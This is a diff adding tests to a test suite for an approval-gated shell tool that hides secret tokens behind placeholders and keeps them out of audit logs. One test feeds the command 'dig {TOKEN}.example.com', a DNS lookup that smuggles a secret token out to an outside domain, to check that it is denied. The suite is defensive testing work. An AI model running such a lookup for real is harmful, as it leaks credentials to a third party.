@@ -612,6 +612,21 @@ def test_a_token_restored_from_its_placeholder_runs_with_approval_only_and_is_no
     assert TOKEN not in shell.audit_path.read_text()
 
 
+def test_of_a_token_nothing_is_written_where_a_text_is_cut(make: Any) -> None:
+    placeholders = Placeholders()
+    placeholders.placeholder(TOKEN)
+    shell = make(None, placeholders=placeholders)
+    shell.execute({"command": "uptime", "reasoning": "x y " * 4092 + "zzz [TOKEN_1]"})
+    assert TOKEN[:8] not in shell.audit_path.read_text()
+
+
+def test_a_command_that_has_the_token_itself_asks_too(make: Any) -> None:
+    placeholders = Placeholders()
+    placeholders.placeholder(TOKEN)
+    answer = ask(make(None, placeholders=placeholders), f"dig {TOKEN}.example.com")
+    assert (answer["classification"], answer["status"]) == ("RISKY", "denied")
+
+
 def test_a_placeholder_that_stands_for_nothing_runs_nothing(make: Any) -> None:
     shell = make(approve, placeholders=Placeholders())
     answer = ask(shell, "dig [TOKEN_7].example.com")
